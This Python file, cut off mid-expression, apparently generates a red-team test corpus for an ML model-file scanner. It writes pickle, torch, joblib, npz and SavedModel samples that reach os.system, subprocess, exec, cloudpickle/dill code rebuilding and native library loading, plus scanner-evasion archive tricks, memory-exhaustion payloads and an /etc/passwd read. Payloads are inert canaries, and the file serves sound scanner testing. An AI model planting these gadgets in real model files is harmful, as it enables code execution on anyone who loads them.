"""Red-team corpus "set E" for `mlsecops scan models` (issue 12).

Written by an outside red-team helper from the public README, `mlsecops --help`, the issue text,
bench/independent/README.md (to avoid classes earlier sets list) and public research only; the
scanner's source and tests and the earlier red-team generators were not read.

    python bench/independent/gen_model_redteam_e.py DEST [--bombs]

writes DEST/malicious/, DEST/benign/ and DEST/manifest.json (path, label, class, format,
technique). Malicious files are built from raw pickle opcodes or hand-written bytes and are never
loaded; payloads are inert canaries (`echo MLSECOPS-REDTEAM-E-CANARY`, files under /tmp,
127.0.0.1:9). Benign files come from the libraries' own savers (ONNX and GGUF are hand-written to
their specifications because no writer is installed). The malicious half is byte-for-byte deterministic
except the Keras-derived files (their metadata.json date and HDF5 object times come from a Keras save);
benign files use fixed seeds but skops, Keras and some pickles embed dates or ids.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

CANARY = "echo MLSECOPS-REDTEAM-E-CANARY"
BOMBS = "--bombs" in sys.argv  # also write the two 2 GiB decompression samples
CANARY_PY = "__import__('os').system('echo MLSECOPS-REDTEAM-E-CANARY')"
TMPF = "/tmp/mlsecops-rte-canary"
ZIP_TIME = (1980, 1, 1, 0, 0, 0)


# --------------------------------------------------------------------------- pickle opcodes
class Raw(bytes):
    """A pre-built opcode fragment (as opposed to a bytes literal)."""


def u(s: str) -> Raw:
    b = s.encode()
    return Raw(b"X" + struct.pack("<I", len(b)) + b)


def g(mod: str, name: str) -> Raw:
    return Raw(b"c" + mod.encode() + b"\n" + name.encode() + b"\n")


def sg(mod: str, name: str) -> Raw:
    """Protocol-4 STACK_GLOBAL (dotted names allowed)."""
    return Raw(u(mod) + u(name) + b"\x93")


def lit(v: Any) -> bytes:
    if isinstance(v, Raw):
        return bytes(v)
    if v is None:
        return b"N"
    if v is True:
        return b"\x88"
    if v is False:
        return b"\x89"
    if isinstance(v, int):
        if -(2**31) <= v < 2**31:
            return b"J" + struct.pack("<i", v)
        return b"I" + str(v).encode() + b"\n"
    if isinstance(v, float):
        return b"G" + struct.pack(">d", v)
    if isinstance(v, str):
        return u(v)
    if isinstance(v, bytes):
        return b"B" + struct.pack("<I", len(v)) + v
    if isinstance(v, tuple):
        return b"(" + b"".join(lit(x) for x in v) + b"t"
    if isinstance(v, list):
        return b"]" + ((b"(" + b"".join(lit(x) for x in v) + b"e") if v else b"")
    if isinstance(v, dict):
        inner = b"".join(lit(k) + lit(x) for k, x in v.items())
        return b"}" + ((b"(" + inner + b"u") if v else b"")
    raise TypeError(type(v))


def call(fn: bytes, *args: Any) -> Raw:
    return Raw(bytes(fn) + b"(" + b"".join(lit(a) for a in args) + b"tR")


def pk(body: bytes, proto: int = 2) -> bytes:
    return b"\x80" + bytes([proto]) + bytes(body) + b"."


def code_fields(src: str) -> tuple:
    """CodeType constructor arguments (Python 3.11 order) for a module-level snippet."""
    c = compile(src, "<rte>", "exec")
    return (
        c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals,
        c.co_stacksize, c.co_flags, c.co_code, c.co_consts, c.co_names, c.co_varnames,
        c.co_filename, c.co_name, c.co_qualname, c.co_firstlineno, c.co_linetable,
        c.co_exceptiontable, c.co_freevars, c.co_cellvars,
    )


# --------------------------------------------------------------------------- containers
def zip_bytes(members: list[tuple[str, bytes]], compress: int = zipfile.ZIP_STORED) -> bytes:
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            zi.compress_type = compress
            z.writestr(zi, data)
    return b.getvalue()


def torch_zip(pkl: bytes, prefix: str = "archive", compress: int = zipfile.ZIP_STORED,
              decoy: bytes | None = None) -> bytes:
    m = [(f"{prefix}/data.pkl", pkl), (f"{prefix}/.format_version", b"1"),
         (f"{prefix}/.storage_alignment", b"64"), (f"{prefix}/byteorder", b"little"),
         (f"{prefix}/version", b"3\n"), (f"{prefix}/.data/serialization_id", b"0" * 40)]
    if decoy is not None:
        m += [("archive/data.pkl", decoy), ("archive/version", b"3\n"), ("archive/byteorder", b"little")]
    return zip_bytes(m, compress)


def zip_name_mismatch(local_name: str, central_name: str, data: bytes, extra: list[tuple[str, bytes]]) -> bytes:
    """Stored zip whose first record's local-header name differs from its central-directory name."""
    out, central = b"", b""
    entries = [(local_name, central_name, data)] + [(n, n, d) for n, d in extra]
    for lname, cname, d in entries:
        crc = zlib.crc32(d)
        off = len(out)
        lb = lname.encode()
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(d), len(d), len(lb), 0) + lb + d
        cb = cname.encode()
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, crc, len(d), len(d),
                               len(cb), 0, 0, 0, 0, 0, off) + cb
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0)
    return out + central + eocd


def tar_bytes(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode=mode) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode = len(data), 0, 0o644
            t.addfile(ti, io.BytesIO(data))
    return b.getvalue()


def legacy_torch(obj_pkl: bytes, magic_pkl: bytes | None = None, keys_pkl: bytes | None = None) -> bytes:
    magic = magic_pkl or pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    sysinfo = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return (magic + pickle.dumps(1001, protocol=2) + pickle.dumps(sysinfo, protocol=2) + obj_pkl
            + (keys_pkl or pickle.dumps([], protocol=2)))


def npy(header: str, body: bytes, version: tuple[int, int] = (1, 0)) -> bytes:
    hb = header.encode("latin1")
    pre = 6 + 2 + (2 if version == (1, 0) else 4)
    pad = 64 - (pre + len(hb) + 1) % 64
    hb = hb + b" " * (pad % 64) + b"\n"
    lenfmt = "<H" if version == (1, 0) else "<I"
    return b"\x93NUMPY" + bytes(version) + struct.pack(lenfmt, len(hb)) + hb + body


# --------------------------------------------------------------------------- GGUF / ONNX writers
def gguf(kvs: list[tuple[str, int, Any]], big_endian: bool = False) -> bytes:
    e = ">" if big_endian else "<"

    def s(x: str) -> bytes:
        b = x.encode()
        return struct.pack(e + "Q", len(b)) + b

    def val(t: int, v: Any) -> bytes:
        if t == 8:
            return s(v)
        if t == 4:
            return struct.pack(e + "I", v)
        if t == 5:
            return struct.pack(e + "i", v)
        if t == 6:
            return struct.pack(e + "f", v)
        if t == 7:
            return b"\x01" if v else b"\x00"
        if t == 9:
            it, items = v
            return struct.pack(e + "I", it) + struct.pack(e + "Q", len(items)) + b"".join(val(it, x) for x in items)
        raise ValueError(t)

    out = b"GGUF" + struct.pack(e + "I", 3) + struct.pack(e + "Q", 0) + struct.pack(e + "Q", len(kvs))
    for k, t, v in kvs:
        out += s(k) + struct.pack(e + "I", t) + val(t, v)
    return out + b"\x00" * (-len(out) % 32)


def _vint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def pb(num: int, v: bytes | int | str) -> bytes:
    if isinstance(v, int):
        return _vint(num << 3) + _vint(v)
    b = v.encode() if isinstance(v, str) else v
    return _vint(num << 3 | 2) + _vint(len(b)) + b


def onnx_tensor(name: str, location: str | None = None, extra_locs: list[str] | None = None) -> bytes:
    t = pb(1, 4) + pb(2, 1) + pb(8, name)
    if location is None:
        return t + pb(9, struct.pack("<4f", 1, 2, 3, 4))
    for loc in [location] + (extra_locs or []):
        t += pb(13, pb(1, "location") + pb(2, loc))
    t += pb(13, pb(1, "offset") + pb(2, "0")) + pb(13, pb(1, "length") + pb(2, "16"))
    return t + pb(14, 1)


def onnx_vi(name: str) -> bytes:
    shape = pb(2, pb(1, pb(1, 4)))
    return pb(1, name) + pb(2, pb(1, pb(1, 1) + shape))


def onnx_graph(inits: list[bytes], sparse: list[bytes] | None = None) -> bytes:
    node = pb(1, "w") + pb(2, "y") + pb(3, "id0") + pb(4, "Identity")
    gr = pb(1, node) + pb(2, "g")
    for t in inits:
        gr += pb(5, t)
    for s in sparse or []:
        gr += pb(15, s)
    return gr + pb(12, onnx_vi("y"))


def onnx_model(graph: bytes, training: bytes | None = None) -> bytes:
    m = pb(1, 8) + pb(2, "rte-e") + pb(7, graph) + pb(8, pb(1, "") + pb(2, 17))
    if training is not None:
        m += pb(20, training)
    return m


# --------------------------------------------------------------------------- malicious set
Sample = tuple[str, str, str, str, Any]  # name, class, format, technique, bytes or writer(path)


def malicious() -> list[Sample]:
    S: list[Sample] = []

    def add(name: str, cls: str, fmt: str, tech: str, data: Any) -> None:
        S.append((name, cls, fmt, tech, data))

    # 1. stdlib configurators that resolve a callable from a *string* and call it
    dc_h = {"version": 1, "handlers": {"h": {"()": "subprocess.getoutput", "cmd": CANARY}}}
    add("logcfg_handler_factory.pkl", "string-resolved-callable", "pickle",
        "logging.config.dictConfig handler '()' factory names subprocess.getoutput as a string",
        pk(call(g("logging.config", "dictConfig"), dc_h)))
    dc_f = {"version": 1, "formatters": {"f": {"()": "os.popen", "cmd": CANARY}}}
    add("logcfg_formatter_factory.pt", "string-resolved-callable", "torch-zip",
        "torch zip data.pkl calls logging.config.dictConfig; formatter '()' factory is 'os.popen'",
        torch_zip(pk(call(g("logging.config", "dictConfig"), dc_f))))
    dc_x = {"version": 1, "filters": {"x": {"()": "ext://subprocess.getoutput", "cmd": CANARY}}}
    add("logcfg_filter_ext.joblib", "string-resolved-callable", "joblib",
        "dictConfig filter factory written as 'ext://subprocess.getoutput'",
        pk(call(g("logging.config", "dictConfig"), dc_x)))
    inst = call(g("logging.config", "BaseConfigurator"), {})
    resolved = call(sg("logging.config", "BaseConfigurator.resolve"), inst, "os.system")
    add("logcfg_resolve_method.pkl", "string-resolved-callable", "pickle",
        "BaseConfigurator.resolve('os.system') (protocol-4 dotted method) then REDUCE on the result",
        pk(Raw(resolved + b"(" + lit(CANARY) + b"tR"), 4))
    add("torch_import_dotted.pth", "string-resolved-callable", "torch-zip",
        "torch._utils._import_dotted_name('os.system') returns the callable, REDUCE calls it",
        torch_zip(pk(Raw(call(g("torch._utils", "_import_dotted_name"), "os.system") + b"(" + lit(CANARY) + b"tR"))))
    add("mock_importer.pkl", "string-resolved-callable", "pickle",
        "unittest.mock._importer('subprocess') + mock._dot_lookup(mod, 'getoutput') then call",
        pk(Raw(call(g("unittest.mock", "_dot_lookup"), call(g("unittest.mock", "_importer"), "subprocess"), "getoutput")
               + b"(" + lit(CANARY) + b"tR")))

    # 2. a reconstructor torch itself emits for fx.GraphModule executes Python source
    body = {"_code": "def forward(self, x):\n    return x\n", "training": False}
    add("fx_reduce_graph_module.pt", "trusted-reconstructor-exec", "torch-zip",
        "torch.fx.graph_module.reduce_graph_module(body, import_block) with code in import_block",
        torch_zip(pk(call(g("torch.fx.graph_module", "reduce_graph_module"), body, CANARY_PY + "\n"))))
    add("fx_reduce_graph_module.pkl", "trusted-reconstructor-exec", "pickle",
        "same fx reconstructor, payload in body['_code'] (the generated forward source)",
        pk(call(g("torch.fx.graph_module", "reduce_graph_module"),
                {"_code": "import os\nos.system('echo MLSECOPS-REDTEAM-E-CANARY')\ndef forward(self, x):\n    return x\n"},
                "")))
    add("fx_forward_from_src.bin", "trusted-reconstructor-exec", "pickle",
        "torch.fx.graph_module._forward_from_src(src, {}) compiles and execs src",
        pk(call(g("torch.fx.graph_module", "_forward_from_src"), CANARY_PY + "\ndef forward(self):\n    pass\n", {})))
    add("fx_exec_with_source.ckpt", "trusted-reconstructor-exec", "torch-zip",
        "torch.fx.graph_module._exec_with_source(src, globals) inside a .ckpt torch zip",
        torch_zip(pk(call(g("torch.fx.graph_module", "_exec_with_source"), CANARY_PY, {}))))

    # 3. cloudpickle / dill reconstructors (MLflow pyfunc, Ray, joblib workers) build code and call it
    cf = code_fields(CANARY_PY)
    for mod, name, fmt in [("joblib.externals.cloudpickle.cloudpickle", "python_model.pkl", "pickle"),
                           ("cloudpickle.cloudpickle", "mlflow_model.cloudpickle", "pickle")]:
        code = call(g(mod, "_builtin_type"), "CodeType")
        code_obj = Raw(code + b"(" + b"".join(lit(x) for x in cf) + b"tR")
        fn = call(g(mod, "_make_function"), code_obj, {},
                  "f", None, None)
        add(name, "serializer-code-reconstructor", fmt,
            f"{mod}._builtin_type('CodeType') builds a code object, _make_function wraps it, REDUCE calls it",
            pk(Raw(fn + b")R"), 4))
    dcode = Raw(call(g("dill._dill", "_load_type"), "CodeType") + b"(" + b"".join(lit(x) for x in cf) + b"tR")
    dfn = call(g("dill._dill", "_create_function"), dcode, {}, "f", None, None, {}, None)
    add("dill_function.pkl", "serializer-code-reconstructor", "pickle",
        "dill._dill._load_type('CodeType') + dill._dill._create_function, then called",
        pk(Raw(dfn + b")R"), 4))
    sub = call(g("joblib.externals.cloudpickle.cloudpickle", "subimport"), "subprocess")
    add("cloudpickle_subimport.joblib", "serializer-code-reconstructor", "joblib",
        "operator.attrgetter('getoutput') applied to cloudpickle.subimport('subprocess'), then called",
        pk(Raw(call(g("operator", "attrgetter"), "getoutput") + sub + b"\x85R(" + lit(CANARY) + b"tR"), 4))

    # 4. uncommon stdlib exec/shell gadgets
    add("timeit_stmt.pkl", "stdlib-exec-gadget", "pickle", "timeit.timeit(stmt=code, setup, timer, number=1)",
        pk(call(g("timeit", "timeit"), CANARY_PY, "pass", Raw(g("time", "perf_counter")), 1)))
    add("cprofile_run.pt", "stdlib-exec-gadget", "torch-legacy", "cProfile.run(code) in a legacy torch object pickle",
        legacy_torch(pk(call(g("cProfile", "run"), CANARY_PY))))
    add("profile_run.pkl", "stdlib-exec-gadget", "pickle", "profile.run(code)",
        pk(call(g("profile", "run"), CANARY_PY)))
    add("runpy_run_code.pkl", "stdlib-exec-gadget", "pickle", "runpy._run_code(source string, {}) -> exec",
        pk(call(g("runpy", "_run_code"), CANARY_PY, {})))
    tr = call(g("trace", "Trace"), 0, 0)
    add("trace_runctx.pkl", "stdlib-exec-gadget", "pickle", "trace.Trace(0,0).runctx(code, {}, {}) via dotted method",
        pk(call(sg("trace", "Trace.runctx"), tr, CANARY_PY, {}, {}), 4))
    ii = call(g("code", "InteractiveInterpreter"))
    add("code_runsource.pkl", "stdlib-exec-gadget", "pickle",
        "code.InteractiveInterpreter().runsource(src) via protocol-4 dotted method name",
        pk(call(sg("code", "InteractiveInterpreter.runsource"), ii, CANARY_PY), 4))
    add("pydoc_pipepager.pkl", "stdlib-exec-gadget", "pickle", "pydoc.pipepager(text, cmd) -> shell command",
        pk(call(g("pydoc", "pipepager"), "x", CANARY)))
    add("uuid_cmd_stdout.pkl", "stdlib-exec-gadget", "pickle", "uuid._get_command_stdout('sh', '-c', cmd)",
        pk(call(g("uuid", "_get_command_stdout"), "sh", "-c", CANARY)))
    add("imaplib_stream.pkl", "stdlib-exec-gadget", "pickle", "imaplib.IMAP4_stream(cmd) runs cmd with shell=True",
        pk(call(g("imaplib", "IMAP4_stream"), CANARY)))
    add("pty_spawn.pkl", "stdlib-exec-gadget", "pickle", "pty.spawn(['sh','-c',cmd])",
        pk(call(g("pty", "spawn"), ["sh", "-c", CANARY])))
    add("mp_spawnv.pkl", "stdlib-exec-gadget", "pickle", "multiprocessing.util.spawnv_passfds('/bin/sh', argv, ())",
        pk(call(g("multiprocessing.util", "spawnv_passfds"), "/bin/sh", ["sh", "-c", CANARY], ())))
    add("numpy_runstring.npy.pkl", "stdlib-exec-gadget", "pickle", "numpy.testing._private.utils.runstring(src, {}) -> exec",
        pk(call(g("numpy.testing._private.utils", "runstring"), CANARY_PY, {})))
    add("torch_collect_env_run.pt", "stdlib-exec-gadget", "torch-zip", "torch.utils.collect_env.run(cmd) -> Popen(shell=True)",
        torch_zip(pk(call(g("torch.utils.collect_env", "run"), CANARY))))
    add("ctypes_cdll.pkl", "native-code-load", "pickle", "ctypes.CDLL('/tmp/...so') loads a native library",
        pk(call(g("ctypes", "CDLL"), TMPF + ".so")))
    add("torch_ops_load_library.pt", "native-code-load", "torch-zip",
        "torch._ops + dotted 'ops.load_library' dlopens a shared object",
        torch_zip(pk(call(sg("torch._ops", "ops.load_library"), TMPF + ".so"), 4)))
    add("cpp_extension_inline.pth", "native-code-load", "torch-zip",
        "torch.utils.cpp_extension.load_inline compiles and loads C++ with a static initializer",
        torch_zip(pk(call(g("torch.utils.cpp_extension", "load_inline"), "rte",
                          '#include <cstdlib>\nstatic int x = std::system("echo MLSECOPS-REDTEAM-E-CANARY");'))))

    # 5. copyreg._reconstructor (emitted by protocol 0/1 pickles) constructing a process
    add("copyreg_reconstructor_popen.pkl", "constructor-as-argument", "pickle",
        "copyreg._reconstructor(Popen, Popen, argv): base.__init__(obj, argv) starts a process",
        pk(call(g("copyreg", "_reconstructor"), Raw(g("subprocess", "Popen")), Raw(g("subprocess", "Popen")),
                ["sh", "-c", CANARY]), 2))
    add("copy_reg_reconstructor_p0.pkl", "constructor-as-argument", "pickle",
        "protocol 0, Python 2 name copy_reg._reconstructor with subprocess.Popen as base class",
        b"ccopy_reg\n_reconstructor\n(csubprocess\nPopen\ncsubprocess\nPopen\n(lp0\nVsh\naV-c\naV"
        + CANARY.encode() + b"\natR.")

    # 6. ML-namespace functions that write/read files or reach the network (full names, not classes)
    add("np_memmap_truncate.pkl", "ml-namespace-side-effect", "pickle", "numpy.memmap(path, 'uint8', 'w+', 0, (8,)) creates/truncates a file",
        pk(call(g("numpy", "memmap"), TMPF, "uint8", "w+", 0, (8,))))
    add("np_open_memmap.npy.pkl", "ml-namespace-side-effect", "pickle", "numpy.lib.format.open_memmap(path, 'w+', ...)",
        pk(call(g("numpy.lib.format", "open_memmap"), TMPF + ".npy", "w+", "uint8", (8,))))
    arr = call(g("numpy", "arange"), 3)
    add("np_tofile_method.joblib", "ml-namespace-side-effect", "joblib", "numpy.ndarray.tofile(arr, path) via dotted method",
        pk(call(sg("numpy", "ndarray.tofile"), arr, TMPF), 4))
    add("np_savetxt.pkl", "ml-namespace-side-effect", "pickle", "numpy.savetxt(path, [1]) writes a file",
        pk(call(g("numpy", "savetxt"), TMPF, [1])))
    add("joblib_strided_memmap.joblib", "ml-namespace-side-effect", "joblib",
        "joblib._memmapping_reducer._strided_from_memmap(path, 'uint8', 'w+', ...) truncates a file",
        pk(call(g("joblib._memmapping_reducer", "_strided_from_memmap"), TMPF, "uint8", "w+", 0, "C", (8,), (1,), 8, False)))
    add("joblib_dump_nested.pkl", "ml-namespace-side-effect", "pickle", "joblib.dump(obj, path) writes a file at load",
        pk(call(g("joblib", "dump"), {"x": 1}, TMPF)))
    add("torch_save_nested.pt", "ml-namespace-side-effect", "torch-zip", "torch.save({}, path) writes a file at load",
        torch_zip(pk(call(g("torch", "save"), {}, TMPF))))
    add("torch_from_file_shared.pt", "ml-namespace-side-effect", "torch-zip",
        "torch.from_file(path, True, 4096) maps a file shared (creates/extends it)",
        torch_zip(pk(call(g("torch", "from_file"), TMPF, True, 4096))))
    add("torch_hub_download.pth", "ml-namespace-side-effect", "torch-zip",
        "torch.hub.download_url_to_file('http://127.0.0.1:9/x', path)",
        torch_zip(pk(call(g("torch.hub", "download_url_to_file"), "http://127.0.0.1:9/x", TMPF, None, False))))
    add("torch_hub_load.pt", "ml-namespace-side-effect", "torch-zip", "torch.hub.load('rte/repo', 'm') fetches and runs hubconf.py",
        torch_zip(pk(call(g("torch.hub", "load"), "127.0.0.1:9/rte", "m"))))
    add("sk_dump_svmlight.pkl", "ml-namespace-side-effect", "pickle", "sklearn.datasets.dump_svmlight_file(X, y, path)",
        pk(call(g("sklearn.datasets", "dump_svmlight_file"), [[1.0]], [1], TMPF)))
    add("scipy_savemat.pkl", "ml-namespace-side-effect", "pickle", "scipy.io.savemat(path, {}) writes a file",
        pk(call(g("scipy.io", "savemat"), TMPF, {})))
    df = call(g("pandas", "DataFrame"))
    add("pd_to_csv_method.pkl", "ml-namespace-side-effect", "pickle", "pandas DataFrame.to_csv(df, path) via dotted method on pandas.core.frame",
        pk(call(sg("pandas.core.frame", "DataFrame.to_csv"), df, TMPF), 4))
    add("pd_read_csv_url.pkl", "ml-namespace-side-effect", "pickle", "pandas.read_csv('http://127.0.0.1:9/x') network fetch at load",
        pk(call(g("pandas", "read_csv"), "http://127.0.0.1:9/x")))
    add("hf_dynamic_module.bin", "ml-namespace-side-effect", "torch-zip",
        "transformers.dynamic_module_utils.get_class_from_dynamic_module fetches and imports remote code",
        torch_zip(pk(call(g("transformers.dynamic_module_utils", "get_class_from_dynamic_module"), "mod.Cls", "127.0.0.1/rte"))))

    # 7. network sockets opened at load by CamelCase stdlib classes
    for mod, cls_, args in [("smtplib", "SMTP", ("127.0.0.1", 9)), ("poplib", "POP3", ("127.0.0.1", 9)),
                            ("ftplib", "FTP", ("127.0.0.1",)), ("telnetlib", "Telnet", ("127.0.0.1", 9))]:
        add(f"net_{cls_.lower()}.pkl", "network-at-load", "pickle", f"{mod}.{cls_}{args} connects at construction",
            pk(call(g(mod, cls_), *args)))
    add("webbrowser_open.pkl", "network-at-load", "pickle", "webbrowser.open('http://127.0.0.1:9/') spawns a browser process",
        pk(call(g("webbrowser", "open"), "http://127.0.0.1:9/")))

    # 8. deferred execution: dangerous callable stored by the library's own object, called later
    try:
        import subprocess

        from sklearn.compose import ColumnTransformer
        from sklearn.pipeline import Pipeline
        from sklearn.preprocessing import FunctionTransformer, StandardScaler
        ft = FunctionTransformer(func=subprocess.getoutput, kw_args={"cmd": CANARY})
        add("sk_function_transformer_getoutput.pkl", "deferred-callable", "pickle",
            "sklearn FunctionTransformer(func=subprocess.getoutput) pickled by pickle.dumps; runs on transform()",
            pickle.dumps(ft, protocol=4))
        ct = Pipeline([("c", ColumnTransformer([("e", FunctionTransformer(func=eval), [0])])), ("s", StandardScaler())])
        import joblib
        b = io.BytesIO()
        joblib.dump(ct, b)
        add("sk_pipeline_nested_eval.joblib", "deferred-callable", "joblib",
            "Pipeline > ColumnTransformer > FunctionTransformer(func=builtins.eval), joblib.dump",
            b.getvalue())
        from sklearn.cluster import DBSCAN
        add("sk_dbscan_metric_system.pkl", "deferred-callable", "pickle",
            "DBSCAN(metric=os.system) pickled (posix.system), called on fit/predict",
            pickle.dumps(DBSCAN(metric=os.system), protocol=2))
    except ImportError:
        pass
    try:
        import torch
        lin = torch.nn.Linear(2, 2)
        torch.manual_seed(0)
        with torch.no_grad():
            lin.weight.zero_()
            lin.bias.zero_()
        lin.register_forward_pre_hook(exec)
        b = io.BytesIO()
        torch.save(lin, b)
        add("torch_module_forward_hook_exec.pt", "deferred-callable", "torch-zip",
            "whole nn.Linear saved by torch.save with builtins.exec as forward pre-hook",
            b.getvalue())
    except ImportError:
        pass

    # 9. joblib decides compression by magic bytes, not by suffix
    payload = pk(call(g("subprocess", "getoutput"), CANARY))
    add("joblib_lzma_alone.joblib", "joblib-compression-magic", "joblib",
        "raw LZMA_ALONE stream (0x5d 00 magic) that joblib.load decompresses", lzma.compress(payload, format=lzma.FORMAT_ALONE))
    add("joblib_xz_named.pkl", "joblib-compression-magic", "joblib", "xz stream under a .pkl name (joblib.load sniffs magic)",
        lzma.compress(payload, format=lzma.FORMAT_XZ))
    add("joblib_bz2.joblib", "joblib-compression-magic", "joblib", "bz2 stream under .joblib", bz2.compress(payload, 9))
    add("joblib_gzip.joblib", "joblib-compression-magic", "joblib", "gzip stream under .joblib",
        gzip.compress(payload, 6, mtime=0))
    add("joblib_zlib_named.model", "joblib-compression-magic", "joblib", "zlib stream under a neutral .model suffix",
        zlib.compress(payload, 9))

    # 10. pandas.read_pickle infers compression from the suffix: tar, zip, zstd
    add("frame.pkl.tar", "pandas-compression-suffix", "pandas", "read_pickle infers 'tar' and unpickles the single member",
        tar_bytes([("frame.pkl", payload)]))
    add("frame.pkl.tar.gz", "pandas-compression-suffix", "pandas", "gzip'd tar with one pickle member (read_pickle 'tar')",
        gzip.compress(tar_bytes([("frame.pkl", payload)]), 6, mtime=0))
    add("frame.pkl.zip", "pandas-compression-suffix", "pandas", "zip with one deflated pickle member (read_pickle 'zip')",
        zip_bytes([("frame.pkl", payload)], zipfile.ZIP_DEFLATED))
    try:
        import zstandard
        add("frame.pkl.zst", "pandas-compression-suffix", "pandas", "zstd-compressed pickle (read_pickle 'zstd')",
            zstandard.ZstdCompressor(level=3).compress(payload))
    except ImportError:
        pass

    # 11. torch zip structure: what torch's reader reads vs what a zipfile walker reads
    p = pk(call(g("subprocess", "getoutput"), CANARY))
    add("torch_deflated_datapkl.pt", "torch-zip-structure", "torch-zip", "archive/data.pkl stored DEFLATE-compressed",
        torch_zip(p, compress=zipfile.ZIP_DEFLATED))
    add("torch_prefix_decoy.pt", "torch-zip-structure", "torch-zip",
        "first record 'weights/data.pkl' (torch uses the first record's folder) + clean decoy archive/data.pkl",
        torch_zip(p, prefix="weights", decoy=pickle.dumps({"w": 1}, protocol=2)))
    add("torch_name_mismatch.pt", "torch-zip-structure", "torch-zip",
        "local header says archive/data.bin, central directory says archive/data.pkl (Python zipfile refuses, miniz reads)",
        zip_name_mismatch("archive/data.bin", "archive/data.pkl", p,
                          [("archive/byteorder", b"little"), ("archive/version", b"3\n")]))
    add("legacy_payload_in_keys.pt", "legacy-torch-pickle-order", "torch-legacy",
        "legacy torch file: clean object pickle, payload in the 5th (storage keys) pickle",
        legacy_torch(pickle.dumps({"w": 1}, protocol=2), keys_pkl=pk(Raw(call(g("subprocess", "getoutput"), CANARY) + b"0]"))))
    add("legacy_payload_in_magic.pt", "legacy-torch-pickle-order", "torch-legacy",
        "legacy torch file: payload in the 1st (magic number) pickle, which then yields the magic number",
        legacy_torch(pickle.dumps({"w": 1}, protocol=2),
                     magic_pkl=pk(Raw(call(g("subprocess", "getoutput"), CANARY) + b"0" + lit(0x1950A86A20F9469CFC6C)))))
    add("legacy_payload_in_sysinfo.pt", "legacy-torch-pickle-order", "torch-legacy",
        "legacy torch file where the sys_info pickle (3rd) calls the payload inside a dict value",
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
        + pk(lit({"protocol_version": 1001, "little_endian": True,
                  "type_sizes": Raw(call(g("subprocess", "getoutput"), CANARY))}))
        + pickle.dumps({"w": 1}, protocol=2) + pickle.dumps([], protocol=2))

    add("torch_bzip2_member.npz", "zip-member-compression", "npz", "npz whose .npy member is BZIP2-compressed (np.load uses zipfile)",
        zip_bytes([("arr_0.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", pk(call(g("subprocess", "getoutput"), CANARY), 3)))],
                  zipfile.ZIP_BZIP2))
    add("lzma_member.pkl.zip", "zip-member-compression", "pandas", "zip with an LZMA-compressed pickle member (pandas read_pickle 'zip')",
        zip_bytes([("m.pkl", p)], zipfile.ZIP_LZMA))
    # 21. duplicate zip records: miniz (torch) and zipfile (scanners) may pick different ones
    clean = pickle.dumps({"w": 1}, protocol=2)
    for order, recs in [("first", [p, clean]), ("last", [clean, p])]:
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            z = zip_bytes([("archive/data.pkl", recs[0]), ("archive/data.pkl", recs[1]), ("archive/byteorder", b"little"),
                           ("archive/version", b"3\n")])
        add(f"torch_dup_datapkl_{order}.pt", "torch-zip-structure", "torch-zip",
            f"two archive/data.pkl records, the malicious one {order}", z)

    # 22. resource exhaustion by calling trusted classes with huge literal arguments (DoS at load)
    add("huge_linear.pt", "resource-exhaustion-at-load", "torch-zip",
        "REDUCE torch.nn.modules.linear.Linear(60000, 60000): ~14 GB allocated and initialised at load",
        torch_zip(pk(call(g("torch.nn.modules.linear", "Linear"), 60000, 60000))))
    add("huge_embedding.pkl", "resource-exhaustion-at-load", "pickle",
        "REDUCE torch.nn.modules.sparse.Embedding(400000000, 16): ~25 GB normal_-initialised at load",
        pk(call(g("torch.nn.modules.sparse", "Embedding"), 400000000, 16)))

    add("huge_bytearray.pkl", "resource-exhaustion-at-load", "pickle",
        "REDUCE builtins.bytearray(12000000000): 12 GB zero-filled at load from a 30-byte pickle",
        pk(call(g("builtins", "bytearray"), 12_000_000_000)))

    # 24. TensorFlow SavedModel graphs with file ops (hand-written protobuf; TF is not installed)
    def tf_const(name: str, value: str) -> bytes:
        tensor = pb(1, 7) + pb(2, b"") + pb(8, value)
        return pb(1, name) + pb(2, "Const") + pb(5, pb(1, "value") + pb(2, pb(8, tensor))) + pb(5, pb(1, "dtype") + pb(2, pb(6, 7)))

    def saved_model(nodes: list[bytes]) -> bytes:
        graph = b"".join(pb(1, n) for n in nodes)
        meta = pb(1, pb(4, "serve")) + pb(2, graph)
        return pb(1, 1) + pb(2, meta)

    def tf_dir(nodes: list[bytes]) -> Callable[[Path], None]:
        def w(path: Path) -> None:
            (path / "variables").mkdir(parents=True, exist_ok=True)
            (path / "saved_model.pb").write_bytes(saved_model(nodes))
        return w
    add("tf_savedmodel_writefile", "tf-savedmodel-ops", "savedmodel",
        "saved_model.pb graph with a WriteFile op to /tmp (runs when the serving function is called)",
        tf_dir([tf_const("fn", TMPF), tf_const("data", CANARY),
                pb(1, "w") + pb(2, "WriteFile") + pb(3, "fn") + pb(3, "data")]))
    add("tf_savedmodel_readfile_pyfunc", "tf-savedmodel-ops", "savedmodel",
        "saved_model.pb graph with ReadFile('/etc/passwd') and an EagerPyFunc op",
        tf_dir([tf_const("fn", "/etc/passwd"), pb(1, "r") + pb(2, "ReadFile") + pb(3, "fn"),
